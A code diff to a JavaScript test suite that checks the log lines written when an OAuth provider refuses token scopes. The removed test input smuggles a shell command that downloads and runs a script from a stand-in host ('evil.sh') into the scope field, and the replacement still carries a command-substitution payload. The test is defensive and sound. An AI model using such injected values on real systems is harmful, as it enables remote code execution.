@@ -211,7 +211,7 @@ describe('the log line of a refusal', () => {
     const { world, lines } = await logged();
     await world.provider.clients.update(world.web.clientId, { scopes: ['openid'] });
     await getTokens(world, { scope: 'openid read write' });
-    await getTokens(world, { scope: 'openid $(curl${IFS}evil.sh|sh) `id`' });
+    await getTokens(world, { scope: 'openid $(id|sh) `id`' });
     const [narrow, odd] = lines.map(({ remedy }) => remedy);
     expect(narrow).toBe('only if the application may have it: its option --scope');
     expect(odd).toMatch(/or define what is missing under scopes in the configuration$/);
